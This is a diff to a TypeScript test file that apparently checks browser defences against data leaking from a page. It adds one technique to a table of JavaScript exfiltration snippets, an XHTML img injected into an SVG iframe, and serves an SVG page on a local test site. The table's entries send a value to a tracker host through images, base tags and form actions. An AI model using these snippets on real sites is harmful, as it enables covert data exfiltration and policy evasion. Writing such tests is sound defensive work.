@@ -41,6 +41,8 @@ const WAYS: Record<string, string> = {
   'a proxy of a text': `new Image().src = new Proxy({}, { get: (_, key) => (key === 'toString' ? () => sent : undefined) });`,
   'document.all for an address': `Object.defineProperty(document.all, 'toString', { value: () => sent });
     new Image().src = document.all;`,
+  'markup of another namespace in a picture': `const frame = put('iframe', { src: '/picture.svg' }); await loaded(frame);
+    frame.contentDocument.documentElement.innerHTML = '<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="' + sent + '"/>';`,
   'a base that is set after a script in a part of the page': `const part = make('div'); part.append(make('script', { src: '/' + mark }));
     document.head.append(make('base', { href: tracker + '/' })); document.body.append(part);`,
   'a base that is set after a form got its action': `const form = put('form', { action: '/' + mark, target: 'inner' });
@@ -217,7 +219,12 @@ let attacker: Attacker;
 let named: Attacker;
 
 beforeAll(async () => {
-  site = await attackedSite({ pages: { '/own': openPage('<p>Own</p>', 'none') } });
+  site = await attackedSite({
+    pages: {
+      '/own': openPage('<p>Own</p>', 'none'),
+      '/picture.svg': { by: 'none', type: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' },
+    },
+  });
   const [at, trackerAt] = [site.address, site.tracker].map((address) => `127.0.0.1:${new URL(address).port}`);
   browser = await launchChromium([`--host-resolver-rules=MAP site.test ${at},MAP *.tracker.test ${trackerAt}`]);
   attacker = await newAttacker(browser, site);
